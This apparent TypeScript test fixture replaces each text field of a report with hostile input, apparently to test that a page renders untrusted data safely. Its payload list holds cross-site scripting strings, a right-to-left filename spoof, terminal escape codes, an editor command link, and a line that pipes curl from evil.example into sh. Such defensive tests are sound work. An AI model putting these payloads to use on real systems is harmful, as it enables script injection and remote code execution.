// What would a report look like whose every word was written by someone who means ill?

import type { Report } from '../../src/protocol/answers.ts';

const ATTACKS = [
  '<img src=x onerror=alert(1)>',
  '"><script>alert(2)</script>',
  'javascript:alert(3)',
  '[x](command:workbench.action.terminal.new)',
  '\u202egpj.exe\u2066',
  '\u001b]0;owned\u0007\u0000',
  '`curl http://evil.example | sh`\u200b',
  'wide'.repeat(400),
];

/** Words whose values the page's own logic reads; they are no text of a dump. */
const OWN = new Set(['kind', 'tone', 'time', 'mappedBy', 'rule', 'severity', 'unit']);

/** The same report with an attack in place of each text; paths stay distinct. */
export function hostileReport(report: Report): Report {
  let next = 0;
  const attack = () => ATTACKS[next++ % ATTACKS.length]!;
  const poisoned = (value: unknown, name: string): unknown => {
    if (typeof value === 'string')
      return OWN.has(name) ? value : name === 'path' ? `${value}/${attack()}` : attack();
    if (Array.isArray(value)) return value.map((one) => poisoned(one, name));
    if (typeof value !== 'object' || value === null) return value;
    return Object.fromEntries(Object.entries(value).map(([key, one]) => [key, poisoned(one, key)]));
  };
  return poisoned(report, '') as Report;
}
